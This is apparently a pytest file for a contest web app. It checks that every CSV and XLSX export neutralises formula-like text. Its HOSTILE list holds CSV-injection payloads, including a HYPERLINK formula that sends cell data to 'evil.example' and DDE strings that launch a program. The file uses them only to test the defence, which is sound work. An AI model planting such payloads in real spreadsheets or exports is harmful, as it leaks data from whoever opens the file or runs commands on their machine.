"""Every CSV and XLSX export keeps formula-like text from reaching a spreadsheet as a formula.

The attack ("CSV injection"): an entrant registers as ``=HYPERLINK("http://evil/?"&A1)``, a
journalist titles an article ``+cmd|' /C calc'!A0``, an organizer types a question starting
with ``-``; the organizer downloads an export and opens it in a spreadsheet program, which runs
the cell as a formula. The test seeds such text into every field that reaches an export, walks
every export route of the URL map as the organizer (the role allowed to download them) and reads
each file back with the csv module or openpyxl:

- CSV: no text cell may begin with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return,
  unless it is neutralised by a leading apostrophe (then the rest is the text as typed); a plain
  number such as ``-100.00`` is a value and stays as it is;
- XLSX: no cell is a formula, and every cell holding such text is a typed string cell.

Which routes are exports is decided by :data:`EXPORT_RULE` over the URL map; a route the rule
finds that this walk does not request fails :func:`test_the_walk_covers_every_export_route`.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest

from contest import audit
from contest.accounts.models import Role
from contest.extensions import db
from contest.judging import assignments, lifecycle
from contest.quiz.console.results import CSV_PARTS
from contest.quiz.models import Option, Question, Topic
from contest.sheets import FORMULA_START
from contest.writing.models import Coauthor, EntryStatus
from tests.conftest import login
from tests.web.judging.judgingkit import now, scene
from tests.web.quiz.resultkit import add_result, finalise, make_entrant, make_round, make_unit

# An export route: its path ends in .csv or .xlsx, or its path or endpoint names an export.
EXPORT_RULE = re.compile(r"\.(csv|xlsx)$|export", re.IGNORECASE)

# Routes the rule finds that are not tables: a person's own data, as JSON (checked below).
NOT_TABULAR = {"accounts.export": "application/json"}

NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

# One text for every character a spreadsheet reads as the start of a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile(n: int, tail: str = "") -> str:
    """The n-th hostile text (cycling), with ``tail`` after it to tell fields apart."""
    return HOSTILE[n % len(HOSTILE)] + tail


def _seed_writing_and_judging(app, make_user):  # noqa: ANN001, ANN202
    s = scene(app, make_user, categories=2)
    for n, category in enumerate(s.categories):
        category.name = hostile(n, f" hạng mục {n}")
    judges = [s.judge(hostile(n, f" giám khảo {n}")) for n in range(2)]
    for n in range(len(HOSTILE)):
        author = make_user(Role.JOURNALIST, full_name=hostile(n + 1, f" tác giả {n}"))
        entry = s.entry(n % 2, author=author, title=hostile(n + 2, f" bài {n}"),
                        outlet=hostile(n + 3, " báo"), pen_name=hostile(n + 4, " bút danh"),
                        url=hostile(n + 5, " url"), prior_award=hostile(n, " giải trước"))
        db.session.add(Coauthor(entry_id=entry.id, name=hostile(n + 1, " đồng tác giả"),
                                email=f"dong{n}@example.org"))
    disqualified = s.entry(0, status=EntryStatus.DISQUALIFIED, title="Bài bị loại")
    disqualified.disqualified_reason = hostile(3, " lý do loại")
    db.session.commit()

    rnd = s.round(name=hostile(0, " sơ khảo"), judges_per_entry=2)
    for n, criterion in enumerate(rnd.rubric.criteria):
        criterion.name = hostile(n + 2, f" tiêu chí {n}")
    db.session.commit()
    s.seat(rnd, judges)
    assignments.auto_assign(rnd, s.organizer.id)
    s.open(rnd)
    for i, entry in enumerate(e for e in s.entries if e.status == EntryStatus.SUBMITTED):
        for judge in judges:
            # The last entry keeps one draft sheet: the matrix shows open sheets too.
            s.score(rnd, entry, judge, 6 + (i % 4), submit=not (i == 0 and judge is judges[1]))
    lifecycle.close_round(rnd, s.organizer.id, now())
    db.session.commit()
    return s, rnd


def _seed_quiz():  # noqa: ANN202
    topic = Topic(name=hostile(0, " chủ đề"))
    db.session.add(topic)
    db.session.flush()
    questions = []
    for n in range(len(HOSTILE)):
        q = Question(topic_id=topic.id, kind="single", text=hostile(n, f" câu {n}?"),
                     title=hostile(n + 1, f" tiêu đề {n}") if n % 2 else "",
                     explanation=hostile(n + 2, " giải thích"), source=hostile(n + 3, " nguồn"),
                     external_id=hostile(n + 4, f"{n}")[:30])
        q.options = [Option(position=j, text=hostile(n + j, f" phương án {j}"),
                            fraction=1.0 if j == 0 else 0.0) for j in range(3)]
        db.session.add(q)
        questions.append(q)
    db.session.commit()

    province = make_unit(hostile(1, "P")[:30], hostile(2, " tỉnh"), size=100)
    units = [make_unit(hostile(n, f"U{n}")[:30], hostile(n + 3, f" xã {n}"), size=40,
                       parent=province) for n in range(3)]
    rnd = make_round("closed", title=hostile(4, " tuần 1"))
    for n in range(len(HOSTILE) * 2):
        user = make_entrant(hostile(n, f" người dự thi {n}"), unit=units[n % 3])
        answers = {str(q.id): [q.options[(n + i) % 3].id] for i, q in enumerate(questions)}
        scores = {str(q.id): 1.0 if (n + i) % 3 == 0 else 0.0 for i, q in enumerate(questions)}
        add_result(rnd, user, sum(scores.values()), max_score=len(questions),
                   item_scores=scores, answers=answers, prediction=n,
                   submitted_at=rnd.opens_at + timedelta(minutes=n))
    cheat = make_entrant(hostile(5, " bị loại"), unit=units[0])
    add_result(rnd, cheat, 6, max_score=len(questions), excluded=True,
               reason=hostile(2, " lý do loại"))
    finalise(rnd)
    db.session.commit()
    return rnd


@pytest.fixture
def walk(app, make_user):
    """(endpoint, url) of every export, with hostile text behind each one."""
    s, rnd = _seed_writing_and_judging(app, make_user)
    quiz = _seed_quiz()
    c = s.contest.id
    downloads = [
        ("judging_console.judging_matrix", f"/organizer/judging/rounds/{rnd.id}/matrix.xlsx"),
        ("quiz_bank.question_export", "/organizer/questions/export?format=csv&topic="),
        ("quiz_bank.question_export", "/organizer/questions/export?format=xlsx&topic="),
        ("quiz_bank.question_export",
         "/organizer/questions/export?format=xlsx&topic=&inactive=y"),
        ("quiz_results.results_ranking_csv", f"/organizer/results/{quiz.id}/ranking.csv"),
        *(("quiz_results.results_statistics_csv",
           f"/organizer/results/{quiz.id}/statistics/{part}.csv") for part in CSV_PARTS),
        ("writing_console.writing_entries_csv", f"/organizer/writing/{c}/entries.csv"),
        ("writing_console.writing_entries_xlsx", f"/organizer/writing/{c}/entries.xlsx"),
        ("writing_console.writing_entries_xlsx",
         f"/organizer/writing/{c}/entries.xlsx?status=disqualified"),
        ("organizer_audit.audit_csv", "/organizer/audit.csv"),
        ("organizer_audit.audit_xlsx", "/organizer/audit.xlsx"),
        ("reports_console.export_xlsx", "/organizer/reports/export.xlsx"),
    ]
    # The trail shows reasons as typed: one carries hostile text.
    audit.record(s.organizer.id, "quiz.result.excluded", "quiz_round", quiz.id,
                 reason=hostile(1, " lý do"))
    db.session.commit()
    client = app.test_client()
    login(client, s.organizer)
    return client, downloads


def _export_endpoints(app) -> set[str]:  # noqa: ANN001
    return {
        rule.endpoint for rule in app.url_map.iter_rules()
        if "GET" in rule.methods and rule.endpoint != "static"
        and (EXPORT_RULE.search(rule.rule) or EXPORT_RULE.search(rule.endpoint))
    }


def test_the_walk_covers_every_export_route(app, walk):
    _client, downloads = walk
    walked = {endpoint for endpoint, _url in downloads}
    found = _export_endpoints(app)
    assert found - walked - set(NOT_TABULAR) == set(), "an export route the walk does not request"
    # The rule is not blind: it finds the known exports by their paths and endpoints.
    assert walked <= found and len(found) >= 6


def test_routes_left_out_of_the_walk_are_not_tables(app, walk, make_user):
    user = make_user(Role.JOURNALIST, full_name=hostile(0, " tác giả"))
    client = app.test_client()
    login(client, user)
    response = client.get("/account/export")  # logged in by password just now: fresh
    assert response.status_code == 200
    assert response.mimetype == NOT_TABULAR["accounts.export"]


def _guarded(text: str) -> bool:
    return text.startswith("'") and text[1:].startswith(FORMULA_START)


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert len(rows) > 1, "an export without rows proves nothing"
    return [cell for row in rows for cell in row]


def _check_csv(url: str, data: bytes) -> int:
    """Fail on a live formula; return how many guarded hostile cells the file holds."""
    cells = _csv_cells(data)
    # A plain number ("-100.00") is a value, not text: figures must stay numbers.
    live = [cell for cell in cells if cell.startswith(FORMULA_START) and not NUMBER.match(cell)]
    assert live == [], (url, live)
    return sum(1 for cell in cells if _guarded(cell))


def _check_xlsx(url: str, data: bytes) -> int:
    """Fail on any formula cell or an untyped formula-like text; count the hostile cells."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen, rows = 0, 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            rows += 1
            for cell in row:
                assert cell.data_type != "f", (url, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and \
                        cell.value.lstrip("\n").startswith(FORMULA_START):
                    # XML reads a carriage return back as a line feed, hence lstrip("\n").
                    assert cell.data_type == "s", (url, cell.coordinate, cell.value)
                    seen += 1
    assert rows > len(book.worksheets), "an export without rows proves nothing"
    return seen


def test_every_export_neutralises_formula_cells(walk):
    client, downloads = walk
    for endpoint, url in downloads:
        response = client.get(url)
        assert response.status_code == 200, (endpoint, url, response.status_code)
        data = response.get_data()
        response.close()
        if response.mimetype == "text/csv":
            hostile_cells = _check_csv(url, data)
        else:
            assert response.mimetype == ("application/vnd.openxmlformats-officedocument."
                                         "spreadsheetml.sheet"), (url, response.mimetype)
            hostile_cells = _check_xlsx(url, data)
        if endpoint != "quiz_results.results_statistics_csv" or "/scores." not in url:
            # Every export but the score distribution (numbers only) carries seeded text.
            assert hostile_cells > 0, (url, "the hostile text did not reach this export")
